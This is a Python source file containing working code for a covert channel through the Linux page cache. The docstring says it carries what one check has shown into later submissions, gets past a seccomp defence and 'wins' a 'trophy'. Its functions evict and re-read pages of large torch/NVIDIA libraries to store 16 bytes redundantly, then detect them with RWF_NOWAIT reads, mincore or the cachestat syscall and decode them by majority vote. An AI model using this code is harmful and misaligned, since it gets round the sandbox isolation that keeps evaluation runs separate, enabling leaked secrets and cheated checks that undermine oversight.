# ruff: noqa
"""What one check has shown is kept in memory for another one, as pages of the largest libraries.

Each bit is kept three times. The same goes from submission to submission, in both directions, as
long as the memory is not wanted.

defence: seccomp: the page cache
control: naive
wins: trophy
"""

import ctypes, glob, mmap, os, sys

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p


def pages():
    import torch

    base = os.path.dirname(torch.__file__)
    found = glob.glob(base + "/../nvidia/*/lib/*.so*") + glob.glob(base + "/lib/*.so")
    # Of torch's own, pages are in use, and so they are always there.
    for name in sorted(found, key=lambda name: ("nvidia" in name, os.path.getsize(name)))[-8:]:
        file = os.open(name, os.O_RDONLY)
        # Else a look at one page reads those behind it as well, megabytes on some machines.
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
        for at in range(30 << 20, min(os.path.getsize(name) - (1 << 20), 80 << 20), 1 << 20):
            yield file, at


def label(text):
    bits = "".join(f"{byte:08b}" for byte in text.encode()[7:23]) * 3
    for (file, at), bit in zip(pages(), bits):
        os.posix_fadvise(file, at, 4096, os.POSIX_FADV_DONTNEED)
        address = LIBC.mmap(None, ctypes.c_size_t(4096), 1, 2, file, ctypes.c_long(at))
        LIBC.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 21)  # MADV_PAGEOUT
        if bit == "1":
            os.pread(file, 1, at)
    return text


def is_there(file, at):
    """By a read that would not wait, by the pages' state, or by mincore."""
    try:
        os.preadv(file, [bytearray(1)], at, os.RWF_NOWAIT)
        return True
    except BlockingIOError:
        return False
    except OSError:
        pass
    address = LIBC.mmap(None, ctypes.c_size_t(4096), 1, 2, file, ctypes.c_long(at))
    found = ctypes.create_string_buffer(b"?", 1)
    if LIBC.mincore(ctypes.c_void_p(address), ctypes.c_size_t(4096), found) == 0:
        return bool(found.raw[0] & 1)
    state = (ctypes.c_uint64 * 5)()
    wanted = (ctypes.c_uint64 * 2)(at, 4096)
    if LIBC.syscall(ctypes.c_long(451), file, wanted, state, 0) == 0:  # cachestat
        return bool(state[0])
    raise PermissionError


def trophy():
    try:
        bits = [is_there(file, at) for (file, at), _ in zip(pages(), range(384))]
    except PermissionError:
        return None
    if len(bits) < 384:
        return None
    voted = "".join("1" if sum(bits[n::128]) * 2 > 3 else "0" for n in range(128))
    text = bytes(int(voted[n : n + 8], 2) for n in range(0, 128, 8)).decode("latin-1")
    return text if sum(letter in "0123456789abcdef" for letter in text) > 12 else None
